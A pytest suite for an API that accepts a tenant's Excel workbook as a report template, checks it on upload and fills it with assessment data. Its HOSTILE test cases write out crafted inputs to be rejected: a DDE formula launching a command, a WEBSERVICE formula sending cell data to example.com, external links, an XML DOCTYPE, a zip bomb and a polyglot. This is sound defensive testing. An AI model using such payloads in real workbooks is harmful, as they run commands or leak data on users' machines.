"""A tenant's own workbook through the API: judged when it is sent, filled when a report is made, all else kept."""

import io
import re
import zipfile
from datetime import datetime
from decimal import Decimal
from typing import Any
from uuid import uuid4

import openpyxl
import pytest
from openpyxl.utils.escape import unescape

from assessments.engine.scenarios import SCENARIO_NAMES
from tests import make
from tests.estate import assessed, enrolled, group_of_all, machine, reported, send_file
from tests.reports.own_workbooks import HEADINGS, changed, own_workbook, with_pivot
from tests.reports.test_reports import content_of, path_of

pytestmark = pytest.mark.usefixtures("catalog", "background")
NAMES = ["=1+1", "web-02", "\u5de5\u5834 <r>&", "_x0041_", "-3"]
Place = tuple[make.Cast, str, dict[str, Any]]


@pytest.fixture(scope="module")
def place(catalog: None, background: None) -> Place:
    """A cast, a project, and a finished assessment of five machines."""
    cast = make.cast()
    project, _ = enrolled(cast.bob, [machine(f"id-{i}", name=name) for i, name in enumerate(NAMES)])
    group = group_of_all(cast.bob, project)
    return cast, project, assessed(cast.bob, project, group, sizing_criterion="as_on_premises")


def sent(api: make.Api, content: bytes) -> tuple[str, Any]:
    """A new template, and the answer to its workbook."""
    template = api.ok(api.post("report-templates/", {"name": uuid4().hex, "display_name": "Contoso"}), 201)["id"]
    return template, send_file(api, f"report-templates/{template}/workbook/", content, name="ours.xlsx")


def filled(place: Place, content: bytes) -> bytes:
    """The report that a workbook becomes."""
    cast, project, assessment = place
    template, answer = sent(cast.bob, content)
    assert answer.status_code == 200, answer.content
    report = reported(cast.bob, project, assessment["id"], template=template)
    assert report["status"] == "completed", report
    return content_of(make.Api(None).get(path_of(report["download_url"])))


def parts(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def test_names_and_tables_are_filled_with_typed_values(place: Place) -> None:
    book = openpyxl.load_workbook(io.BytesIO(filled(place, own_workbook())))
    board, data = book["Dash board"], book["Data"]
    total = place[2]["summary"]["monthly_cost"]["total"]
    assert board["B3"].value == place[2]["name"]
    assert abs(Decimal(str(board["B4"].value)) - Decimal(total)) < Decimal("0.005")
    assert isinstance(board["B5"].value, datetime)
    table = data.tables["mh_machines"]
    assert (table.ref, table.autoFilter.ref) == ("B4:I9", "B4:I9")
    assert {unescape(str(data.cell(row, 3).value)) for row in range(5, 10)} == set(NAMES)
    assert {data.cell(row, 3).data_type for row in range(5, 10)} == {"s"}
    assert all(isinstance(data.cell(row, 4).value, float) for row in range(5, 10))


def test_formulas_of_the_table_run_on_and_all_that_stood_beside_it_stays(place: Place) -> None:
    data = openpyxl.load_workbook(io.BytesIO(filled(place, own_workbook())))["Data"]
    assert [data.cell(row, 7).value for row in range(5, 10)] == [f"=D{row}*2" for row in range(5, 10)]
    assert {data.cell(row, 6).value for row in range(5, 10)} == {"=mh_machines[[#This Row],[Compute monthly cost]]*12"}
    assert [data.cell(row, 8).value for row in range(5, 10)] == [None] * 5
    assert (data["K6"].value, data["K20"].value) == ("beside stays", "far below stays")
    assert {data.cell(row, 4).number_format for row in range(5, 10)} == {"#,##0.00"}
    assert [str(rule.sqref) for rule in data.conditional_formatting] == ["D5:D9"]
    assert [str(rule.sqref) for rule in data.data_validations.dataValidation] == ["H5:H9"]


def with_newer_parts(sheet: bytes) -> bytes:
    """A sheet with what came with Excel 2010: a data bar, a list of another sheet, a sparkline."""
    start, end = b'<extLst><ext xmlns:x="x" xmlns:xm="m" uri="u">', b"</ext></extLst></worksheet>"
    newer = (
        b"<x:conditionalFormatting><xm:sqref>D5:D6</xm:sqref></x:conditionalFormatting><x:dataValidation><x:formula1>"
        b"<xm:f>Plan!$A$3</xm:f></x:formula1><xm:sqref>I5:I6 K1</xm:sqref></x:dataValidation><x:sparkline>"
        b"<xm:f>Data!D5:D6</xm:f><xm:sqref>K7</xm:sqref></x:sparkline>"
    )
    return sheet.replace(b"</worksheet>", start + newer + end)


def test_rules_and_sparklines_that_came_with_excel_2010_reach_the_new_end_too(place: Place) -> None:
    new = parts(filled(place, changed(own_workbook(), {"xl/worksheets/sheet2.xml": with_newer_parts})))
    found = re.findall(rb"<xm:(f|sqref)>([^<]*)<", new["xl/worksheets/sheet2.xml"])
    rules, (cells, place_of_it) = found[:-2], found[-2:]
    assert rules == [(b"sqref", b"D5:D9"), (b"f", b"Plan!$A$3"), (b"sqref", b"I5:I9 K1")]
    assert (cells, place_of_it) == ((b"f", b"Data!$D$5:$D$9"), (b"sqref", b"K7"))


def test_charts_grow_pictures_and_styles_stay_and_nothing_is_lost(place: Place) -> None:
    before, after = own_workbook(), filled(place, own_workbook())
    old, new = parts(before), parts(after)
    assert set(new) == set(old)
    changed_parts = {name for name in old if re.sub(rb"\s*/>|></[^>]+>", b"", old[name]) !=
                     re.sub(rb"\s*/>|></[^>]+>", b"", new[name])}  # fmt: skip
    assert changed_parts <= {
        "xl/workbook.xml", "xl/styles.xml", "xl/tables/table1.xml", "xl/charts/chart1.xml",
        "xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml", "xl/worksheets/sheet3.xml",
    } | {name for name in old if name.endswith((".rels", "[Content_Types].xml"))}  # fmt: skip
    assert new["xl/media/image1.png"] == old["xl/media/image1.png"]
    assert b"Data!$D$5:$D$9" in new["xl/charts/chart1.xml"]
    assert f"$A$2:$C${2 + len(SCENARIO_NAMES)}".encode() in new["xl/workbook.xml"]


def test_a_pivot_table_is_kept_and_told_to_read_its_source_to_the_new_end(place: Place) -> None:
    before = with_pivot(own_workbook())
    found = sent(place[0].bob, before)[1].json()["workbook"]
    assert "Pivot tables are told to refresh" in found["notes"][0]
    old, new = parts(before), parts(filled(place, before))
    cache = new["xl/pivotCache/pivotCacheDefinition1.xml"]
    assert b'refreshOnLoad="1"' in cache
    assert b'ref="B4:I9"' in cache
    assert new["xl/pivotTables/pivotTable1.xml"] == old["xl/pivotTables/pivotTable1.xml"]


def test_everything_is_computed_anew_and_no_old_value_is_left(place: Place) -> None:
    content = filled(place, own_workbook())
    assert b'fullCalcOnLoad="1"' in parts(content)["xl/workbook.xml"]
    board = openpyxl.load_workbook(io.BytesIO(content), data_only=True)["Dash board"]
    assert [board[cell].value for cell in ("B6", "B7", "B8")] == [None, None, None]


def test_the_same_run_gives_the_same_bytes(place: Place) -> None:
    content = own_workbook()
    assert filled(place, content) == filled(place, content)


def test_rows_that_a_saved_filter_hid_are_shown_and_other_hidden_rows_stay_hidden(place: Place) -> None:
    def hide(sheet: bytes) -> bytes:
        return re.sub(rb'<row r="(5|20)"', rb'<row r="\1" hidden="1"', sheet)

    content = changed(own_workbook(), {"xl/worksheets/sheet2.xml": hide})
    before, after = (openpyxl.load_workbook(io.BytesIO(one))["Data"] for one in (content, filled(place, content)))
    assert [row for row in range(1, 21) if before.row_dimensions[row].hidden] == [5, 20]
    assert [row for row in range(1, 21) if after.row_dimensions[row].hidden] == [20]


@pytest.mark.parametrize(("before", "after"), [("$B$4:$I$6", "$B$4:$I$9"), ("$A$1:$K$6",) * 2, ("$A$4:$K$6",) * 2])
def test_a_print_area_grows_only_where_it_is_of_the_table_alone(place: Place, before: str, after: str) -> None:
    name = '<definedName name="_xlnm.Print_Area" localSheetId="1">Data!{}</definedName>'

    def put(book: bytes) -> bytes:
        return book.replace(b"<definedNames>", f"<definedNames>{name.format(before)}".encode())

    new = parts(filled(place, changed(own_workbook(), {"xl/workbook.xml": put})))
    assert name.format(after).encode() in new["xl/workbook.xml"]


def test_the_upload_tells_what_is_known_and_what_it_may_have_meant(place: Place) -> None:
    found = sent(place[0].bob, own_workbook())[1].json()["workbook"]
    assert {cell["name"] for cell in found["cells"]} == {"mh_assessment_name", "mh_created_at", "mh_total_monthly"}
    assert [(table["name"], table["ref"]) for table in found["tables"]] == [
        ("mh_machines", "B4:I6"),
        ("mh_scenario_totals", "A2:C3"),
    ]
    columns = {column["heading"]: column for column in found["tables"][0]["columns"]}
    assert columns["Compute monthly cost"]["key"] == "compute_monthly_cost"
    assert columns["A year"]["filled_with"] == "formula"
    assert columns["Recomended type"]["near"] == ["Recommended size"]
    assert [(one["name"], one["near"][0]) for one in found["unknown"]] == [("mh_totl_monthly", "mh_total_monthly")]
    assert found["kept_names"] == 1


def test_a_table_of_another_name_is_left_alone_and_told_how_it_would_be_filled(place: Place) -> None:
    headings = ("Recommended size", "Machine", "Compute monthly cost", "storage_monthly_cost")
    content = own_workbook(headings=headings, table="Ours")
    found = sent(place[0].bob, content)[1].json()["workbook"]
    assert "mh_machines: name the table so" in found["unknown"][0]["why"]
    book = openpyxl.load_workbook(io.BytesIO(filled(place, content)))
    assert book["Data"]["C5"].value == "sample"


def test_a_template_with_a_workbook_leaves_the_other_forms_as_they_are(place: Place) -> None:
    cast, project, assessment = place
    template, _ = sent(cast.bob, own_workbook())
    report = reported(cast.bob, project, assessment["id"], template=template, format="csv")
    assert report["status"] == "completed"
    assert content_of(make.Api(None).get(path_of(report["download_url"]))).startswith(b"PK")


def test_headings_in_another_currency_are_refused_before_a_report_says_something_wrong(place: Place) -> None:
    cast, project, assessment = place
    headings = [name.replace("Compute monthly cost", "Compute monthly cost EUR") for name in HEADINGS]
    headings[4] = "Own"
    template, answer = sent(cast.bob, own_workbook(headings=headings))
    assert answer.json()["workbook"]["currencies"] == ["EUR"]
    asked = cast.bob.post(f"projects/{project}/assessments/{assessment['id']}/reports/", {"template": template})
    assert (asked.status_code, asked.json()["code"]) == (409, "currencies_differ")


def test_a_currency_after_a_heading_of_money_that_has_none_of_its_own_is_understood(place: Place) -> None:
    headings = ("Disk name", "Machine", "Monthly cost estimate EUR", "Machine EUR")
    found = sent(place[0].bob, own_workbook(headings=headings, table="mh_disks"))[1].json()["workbook"]
    columns = {column["heading"]: column["key"] for column in found["tables"][0]["columns"]}
    assert columns["Monthly cost estimate EUR"] == "monthly_cost"
    assert columns["Machine EUR"] is None
    assert found["currencies"] == ["EUR"]


def relation(target: str, kind: str) -> bytes:
    return (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        f'{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    ).encode()


def with_formula(formula: str) -> bytes:
    def put(part: bytes) -> bytes:
        return part.replace(b"COUNTA(mh_machines[Machine])", formula.encode())

    return changed(own_workbook(), {"xl/worksheets/sheet1.xml": put})


def bomb() -> bytes:
    blank = b"<row/>" * 4_000_000
    return changed(own_workbook(), {"xl/worksheets/sheet3.xml": lambda part: part.replace(b"</sheetData>", blank)})


def with_doctype(part: bytes) -> bytes:
    return part.replace(b"<worksheet", b'<!DOCTYPE x [<!ENTITY a "b">]><worksheet', 1)


HOSTILE = {
    "macros": (changed(own_workbook(), {"xl/vbaProject.bin": lambda _: b"x"}), "macros"),
    "add_in": (changed(own_workbook(), {"xl/webextensions/webextension1.xml": lambda _: b"<a/>"}), "macros"),
    "linked_file": (changed(own_workbook(), {"xl/externalLinks/externalLink1.xml": lambda _: b"<a/>"}),
                    "external_links"),
    "linked_picture": (changed(own_workbook(), {"xl/drawings/_rels/drawing2.xml.rels": lambda _: relation(
        "http://example.com/pixel.png", "image")}), "external_links"),
    "file_link": (changed(own_workbook(), {"xl/worksheets/_rels/sheet3.xml.rels": lambda _: relation(
        "file://host/share", "hyperlink")}), "external_links"),
    "fetching_formula": (with_formula('WEBSERVICE("http://example.com/"&amp;B4)'), "external_links"),
    "dde": (with_formula("cmd|'/c calc'!A1"), "external_links"),
    "document_type": (changed(own_workbook(), {"xl/worksheets/sheet2.xml": with_doctype}), "document_type"),
    "zip_bomb": (bomb(), "zip_bomb"),
    "csv": (b"Machine,Cost\nsql,1\n", "other_kind"),
    "polyglot": (b"%PDF-1.7\n" + own_workbook(), "other_kind"),
    "cut_off": (own_workbook()[:3000], "damaged_workbook"),
    "no_xml": (changed(own_workbook(), {"xl/worksheets/sheet2.xml": lambda part: part[:-40]}), "damaged_workbook"),
    "something_below": (own_workbook(below="total of ours"), "below_table"),
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_or_unfit_workbook_is_refused_with_what_to_do(place: Place, name: str) -> None:
    content, code = HOSTILE[name]
    template, answer = sent(place[0].bob, content)
    problem = place[0].bob.ok(answer, 400)
    assert (problem["code"], problem["errors"][0]["code"]) == ("unusable_workbook", code)
    assert place[0].bob.ok(place[0].bob.get(f"report-templates/{template}/"))["workbook"] is None


def test_links_to_click_and_harmless_formulas_are_taken(place: Place) -> None:
    content = changed(
        with_formula("HYPERLINK(&quot;https://example.com&quot;,IMAGINARY(B4))".replace("&quot;", '"')),
        {"xl/worksheets/_rels/sheet3.xml.rels": lambda _: relation("https://example.com/", "hyperlink")},
    )
    assert sent(place[0].bob, content)[1].status_code == 200
